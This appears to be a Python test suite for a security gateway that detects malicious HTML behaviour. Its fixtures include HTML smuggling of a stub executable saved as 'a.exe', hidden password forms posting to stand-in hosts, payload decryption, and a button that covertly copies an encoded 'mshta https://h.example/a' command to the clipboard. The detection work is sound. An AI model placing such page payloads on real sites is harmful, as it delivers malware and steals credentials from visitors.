"""What a played page did becomes observations, and children that are judged like any other."""

from __future__ import annotations

import base64

from gateway.extract.base import Child, Yield
from gateway.extract.effort import Stage
from gateway.extract.page.deeds import told
from gateway.extract.page.html import parse
from gateway.extract.page.played import play
from gateway.model.content import Observation, Text

PROGRAM = b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0" + bytes(range(256))
BLOB = f"var b=new Blob([Uint8Array.from(atob('{base64.b64encode(PROGRAM).decode()}'),c=>c.charCodeAt(0))]);"
FORM = base64.b64encode(b"<form action=https://a.example/><input type=password></form>").decode()


def deeds(source: str) -> list[Yield]:
    made = play(source, Stage())
    assert made is not None
    return list(told(parse(source), source, made))


def codes(items: list[Yield]) -> set[str]:
    return {item.code for item in items if isinstance(item, Observation)}


def test_a_file_is_a_child_under_its_name():
    items = deeds(f"<script>{BLOB}navigator.msSaveBlob(b,'a.exe')</script>")
    assert codes(items) == {"HTML-FILE-UNASKED"}
    assert [(i.data, i.names) for i in items if isinstance(i, Child)] == [(PROGRAM, ("a.exe",))]
    items = deeds(f"<button onclick=\"{BLOB}navigator.msSaveBlob(b,'a.exe')\">x</button>")
    assert codes(items) == {"HTML-FILE-MADE"}


def test_a_file_of_a_few_octets_is_told_by_its_name_alone():
    items = deeds("<script>navigator.msSaveBlob(new Blob(['x']),'a.js')</script>")
    assert codes(items) == set() and [(i.data, i.names) for i in items if isinstance(i, Child)] == [(b"x", ("a.js",))]
    assert not [i for i in deeds("<script>u=URL.createObjectURL(new Blob(['x']))</script>") if isinstance(i, Child)]


def test_what_a_page_only_holds_is_a_child_and_no_deed():
    items = deeds(f"<script>{BLOB}var u=URL.createObjectURL(b)</script>")
    assert codes(items) == set() and [i.data for i in items if isinstance(i, Child)] == [PROGRAM]


def test_pages_that_a_script_makes():
    for script in (f"document.write(atob('{FORM}'))", f"location=URL.createObjectURL(new Blob([atob('{FORM}')],{{type:'text/html'}}))"):
        items = deeds(f"<script>{script}</script>")
        children = [i for i in items if isinstance(i, Child)]
        assert codes(items) == {"HTML-HIDDEN-FORM"} and [c.label for c in children] == ["played"] and b"password" in children[0].data
    plain = deeds("<script>document.write('<input type=password>')</script>")
    assert "HTML-HIDDEN-FORM" not in codes(plain)


def test_links_and_what_is_copied():
    items = deeds("<button onclick=\"navigator.clipboard.writeText('calc');location=atob('aHR0cHM6Ly9hLmV4YW1wbGUv')\">x</button>")
    assert [i.detail for i in items if isinstance(i, Observation)] == ["script https://a.example/"]
    assert [i.content for i in items if isinstance(i, Text)] == ["calc"]


def test_a_page_with_words_of_its_own_is_not_judged_twice():
    words = "<p>" + "There is something to read here. " * 40
    assert deeds(f"{words}<p id=t></p><script>t.innerHTML='<b>more</b> to read than before'</script>") == []


def test_what_a_page_deciphers():
    decipher = "b.onclick=async()=>{const d=await crypto.subtle.decrypt({name:'AES-GCM'},{},new Uint8Array(90));"
    saved = deeds(f"<button id=b>Open</button><script>{decipher}navigator.msSaveBlob(new Blob([d]),'a.bin')}}</script>")
    shown = deeds(f"<button id=b>Open</button><p id=t></p><script>{decipher}t.textContent=new TextDecoder().decode(d)}}</script>")
    assert "HTML-DECIPHERS" in codes(saved) and "HTML-DECIPHERS" in codes(shown)
    assert "HTML-DECIPHERS" not in codes(deeds("<script>crypto.subtle.digest('SHA-256',new Uint8Array(9))</script>"))


def test_commands_that_are_copied_and_not_shown():
    copies = "<button onclick=\"navigator.clipboard.writeText({})\">x</button>"
    assert "HTML-COPIES-UNSEEN" in codes(deeds(copies.format("atob('bXNodGEgaHR0cHM6Ly9oLmV4YW1wbGUvYQ==')")))
    assert "HTML-COPIES-UNSEEN" not in codes(deeds("<code>curl -LO https://h.example/a.tgz</code>" + copies.format("'curl -LO https://h.example/a.tgz'")))
    assert "HTML-COPIES-UNSEEN" not in codes(deeds(copies.format("'DE02 1203 0000 0000 2020 51'")))


def test_forms_in_frames():
    frame = "<iframe srcdoc='&lt;form action=https://h.example/p&gt;&lt;input type=password&gt;&lt;/form&gt;'></iframe>"
    assert "HTML-HIDDEN-FORM" in codes(deeds(frame)) and "HTML-HIDDEN-FORM" not in codes(deeds("<iframe srcdoc='&lt;p&gt;words'></iframe>"))
